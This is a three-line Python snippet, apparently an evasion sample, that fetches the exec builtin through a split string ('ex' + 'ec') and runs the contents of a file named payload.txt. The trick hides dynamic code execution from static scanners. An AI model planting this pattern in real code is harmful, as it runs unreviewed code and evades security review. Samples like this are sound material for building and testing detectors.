import builtins
f = getattr(builtins, 'ex' + 'ec')
f(open('payload.txt').read())
